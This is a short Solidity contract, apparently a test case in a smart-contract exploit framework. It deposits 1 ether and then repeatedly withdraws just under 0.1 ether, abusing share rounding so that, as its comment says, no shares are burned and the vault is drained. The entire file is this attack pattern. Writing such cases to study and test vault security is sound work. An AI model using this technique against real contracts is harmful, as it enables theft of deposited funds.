// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

import {Exploit, Scene} from "../Exploit.sol";

/// @title Dozens of exits of just less than a unit
/// @notice Each pays nearly a tenth and burns nothing.
contract RoundingDrain is Exploit {
    uint256 private constant EXITS = 40;
    uint256 private constant PART = 0.1 ether - 1;
    uint256 private constant LEAST_GAS = 3_000_000;

    constructor(Scene memory scene) payable Exploit(scene) {}

    /// @inheritdoc Exploit
    function turn(uint256 number) external override {
        if (number != 0) return;
        _deposit(1 ether);
        for (uint256 i = 0; i < EXITS && gasleft() > LEAST_GAS && _shares() >= PART; ++i) _exit(PART);
    }
}
